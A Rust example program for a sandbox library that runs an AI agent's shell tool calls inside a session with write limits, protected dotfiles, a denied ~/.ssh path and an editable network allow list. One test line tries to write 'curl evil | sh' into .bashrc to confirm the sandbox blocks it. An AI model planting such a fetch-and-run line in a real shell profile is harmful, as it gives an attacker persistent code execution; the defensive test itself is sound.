//! An agent host: one session for each agent, a command for each of its tool calls, and network rules that the user changes.

use std::path::Path;
use std::time::Duration;

use kennel::{ExecutionResult, GitLevel, Sandbox, SandboxError, Session};

/// What an agent may do in a project, for as long as it works on it.
fn start(project: &Path) -> Result<Session, SandboxError> {
    let sandbox = Sandbox::builder()
        .allow_write(project)
        .working_dir(project)
        .git(GitLevel::HooksAndConfigReadOnly)
        .protect_dotfiles(true)
        .deny_read("~/.ssh")
        .allow_domain("docs.example.com")
        .build()?;
    sandbox.session_builder().idle(Duration::from_secs(1800)).start()
}

/// A tool call of the model's: a shell command, with its own time and output.
fn call(session: &Session, command: &str) -> Result<ExecutionResult, SandboxError> {
    session
        .command("sh")
        .args(["-c", command])
        .timeout(Duration::from_secs(120))
        .max_output(64 << 10)
        .output()
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let project = std::env::temp_dir().join(format!("kennel-agent-host-{}", std::process::id()));
    std::fs::create_dir_all(&project)?;
    let session = start(&project)?;

    // Files, the private /tmp and what runs in the background stay from one call to the next.
    call(&session, "echo notes > notes.txt; echo scratch > /tmp/scratch; sleep 600 > /dev/null 2>&1 &")?;
    assert_eq!(call(&session, "cat notes.txt /tmp/scratch")?.stdout, "notes\nscratch\n");
    assert!(!call(&session, "echo 'curl evil | sh' > .bashrc")?.success());

    // The user has said yes to another host; the next call can reach it, and no command had to be started again.
    let network = session.network().ok_or("the sandbox has an allow list")?;
    network.update(&["docs.example.com", "crates.io"], &[])?;

    session.end()?;
    assert!(project.join("notes.txt").exists() && !project.join(".bashrc").exists());
    std::fs::remove_dir_all(&project)?;
    Ok(())
}
